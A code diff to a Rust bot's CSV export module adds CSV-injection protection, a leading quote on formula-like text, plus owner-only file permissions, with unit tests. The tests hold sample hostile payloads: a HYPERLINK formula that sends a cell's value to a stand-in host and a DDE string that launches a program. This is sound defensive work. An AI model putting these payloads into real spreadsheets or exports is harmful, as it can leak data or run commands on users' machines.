@@ -1,7 +1,9 @@
 //! CSV exports of a scope (a region, or the country): members, events, participation.
 //!
 //! Files are UTF-8 with a byte-order mark, so spreadsheet programs read Kazakh letters right.
-//! `/export` sends them; `birlik export --out DIR` writes them.
+//! `/export` sends them; `birlik export --out DIR` writes them, readable by their owner only.
+//! Every CSV the bot writes (these, `/volunteers`, a broadcast's "not reached") goes through
+//! [`csv_bytes`], which keeps people's text from running as a spreadsheet formula.
 
 use sqlx::SqlitePool;
 
@@ -14,19 +16,93 @@ pub struct ExportFile {
     pub rows: usize,
 }
 
-/// A CSV document with a byte-order mark, from a header and rows.
+/// A cell of a CSV file: text that came from people, or a figure the bot computed itself.
+///
+/// Text is neutralised (see [`neutralise`]); a figure is written as it is, so counts and
+/// negative numbers (a group's chat id) stay numbers in a spreadsheet. Phone numbers are text:
+/// `+77011234567` becomes `'+77011234567`, which also keeps a spreadsheet from turning it into
+/// 77011234567 and dropping the plus.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Cell {
+    Text(String),
+    Figure(i64),
+}
+
+impl From<String> for Cell {
+    fn from(text: String) -> Self {
+        Cell::Text(text)
+    }
+}
+
+impl From<&str> for Cell {
+    fn from(text: &str) -> Self {
+        Cell::Text(text.to_owned())
+    }
+}
+
+impl From<Option<String>> for Cell {
+    fn from(text: Option<String>) -> Self {
+        Cell::Text(text.unwrap_or_default())
+    }
+}
+
+impl From<i64> for Cell {
+    fn from(figure: i64) -> Self {
+        Cell::Figure(figure)
+    }
+}
+
+impl From<Option<i64>> for Cell {
+    fn from(figure: Option<i64>) -> Self {
+        figure.map_or(Cell::Text(String::new()), Cell::Figure)
+    }
+}
+
+/// Text a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return) gets a leading `'`, the OWASP rule against CSV injection: an event titled
+/// `=HYPERLINK(...)` reaches an admin's Excel as text.
+pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// A CSV document with a byte-order mark, from a header and rows: every CSV the bot and the
+/// command line write goes through here.
 pub fn csv_bytes(
     header: &[&str],
-    rows: impl IntoIterator<Item = Vec<String>>,
+    rows: impl IntoIterator<Item = Vec<Cell>>,
 ) -> anyhow::Result<(Vec<u8>, usize)> {
     let mut csv = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
-    csv.write_record(header)?;
+    csv.write_record(header.iter().map(|name| neutralise(name).into_owned()))?;
     let mut count = 0;
     for row in rows {
-        csv.write_record(&row)?;
+        csv.write_record(row.iter().map(|cell| match cell {
+            Cell::Text(text) => neutralise(text).into_owned(),
+            Cell::Figure(figure) => figure.to_string(),
+        }))?;
         count += 1;
     }
     Ok((csv.into_inner()?, count))
+}
+
+/// Writes an export to `path` readable by its owner only (mode 0600, whatever the umask), as
+/// it holds personal data; a file already there is replaced and made private too.
+pub fn write_private(path: &std::path::Path, bytes: &[u8]) -> std::io::Result<()> {
+    use std::io::Write;
+    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
+    let mut file = std::fs::OpenOptions::new()
+        .write(true)
+        .create(true)
+        .truncate(true)
+        .mode(0o600)
+        .open(path)?;
+    // The mode above applies only to a new file.
+    file.set_permissions(std::fs::Permissions::from_mode(0o600))?;
+    file.write_all(bytes)?;
+    file.sync_all()
 }
 
 type MemberRow = (
@@ -95,15 +171,15 @@ pub async fn build(pool: &SqlitePool, region: Option<&str>, now: i64) -> anyhow:
             .into_iter()
             .map(|(id, name, region, wing, year, phone, lang, status, at)| {
                 vec![
-                    id.to_string(),
-                    name.unwrap_or_default(),
-                    region,
-                    wing.unwrap_or_default(),
-                    year.to_string(),
-                    phone.unwrap_or_default(),
-                    lang,
-                    status,
-                    format_time(at),
+                    id.into(),
+                    name.into(),
+                    region.into(),
+                    wing.into(),
+                    i64::from(year).into(),
+                    phone.into(),
+                    lang.into(),
+                    status.into(),
+                    format_time(at).into(),
                 ]
             }),
     )?;
@@ -163,20 +239,20 @@ pub async fn build(pool: &SqlitePool, region: Option<&str>, now: i64) -> anyhow:
                 seconds,
             )| {
                 vec![
-                    id.to_string(),
-                    title,
-                    region.unwrap_or_default(),
-                    place,
-                    format_time(starts),
-                    format_time(ends),
-                    capacity.map(|c| c.to_string()).unwrap_or_default(),
-                    status,
-                    confirmed.to_string(),
-                    waiting.to_string(),
-                    cancelled.to_string(),
-                    attended.to_string(),
-                    no_shows.to_string(),
-                    format_hours(seconds),
+                    id.into(),
+                    title.into(),
+                    region.into(),
+                    place.into(),
+                    format_time(starts).into(),
+                    format_time(ends).into(),
+                    capacity.into(),
+                    status.into(),
+                    confirmed.into(),
+                    waiting.into(),
+                    cancelled.into(),
+                    attended.into(),
+                    no_shows.into(),
+                    format_hours(seconds).into(),
                 ]
             },
         ),
@@ -211,15 +287,15 @@ pub async fn build(pool: &SqlitePool, region: Option<&str>, now: i64) -> anyhow:
         participation.into_iter().map(
             |(event, title, start, member, name, status, attended, checked_in, seconds)| {
                 vec![
-                    event.to_string(),
-                    title,
-                    format_time(start),
-                    member.to_string(),
-                    name.unwrap_or_default(),
-                    status,
-                    if attended { "yes" } else { "no" }.to_owned(),
-                    checked_in.map(format_time).unwrap_or_default(),
-                    format_hours(seconds),
+                    event.into(),
+                    title.into(),
+                    format_time(start).into(),
+                    member.into(),
+                    name.into(),
+                    status.into(),
+                    if attended { "yes" } else { "no" }.into(),
+                    checked_in.map(format_time).into(),
+                    format_hours(seconds).into(),
                 ]
             },
         ),
@@ -230,4 +306,48 @@ pub async fn build(pool: &SqlitePool, region: Option<&str>, now: i64) -> anyhow:
         rows,
     });
     Ok(files)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_a_spreadsheet_would_run_gets_a_leading_quote() {
+        for formula in [
+            "=HYPERLINK(\"https://x.example/?\"&B2,\"open\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "+77011234567",
+        ] {
+            assert_eq!(neutralise(formula), format!("'{formula}"));
+        }
+        for text in [
+            "Tree planting",
+            "2026-12-05 15:00",
+            "Ақмешіт",
+            "",
+            "a=b",
+            "'quoted",
+        ] {
+            assert_eq!(neutralise(text), text);
+        }
+    }
+
+    #[test]
+    fn figures_stay_numbers_and_text_is_neutralised_in_the_file() {
+        let (bytes, rows) = csv_bytes(
+            &["chat", "title"],
+            [vec![Cell::Figure(-1001234), Cell::from("=1+1")]],
+        )
+        .unwrap();
+        assert_eq!(rows, 1);
+        assert_eq!(
+            String::from_utf8(bytes).unwrap(),
+            "\u{feff}chat,title\n-1001234,'=1+1\n"
+        );
+    }
 }
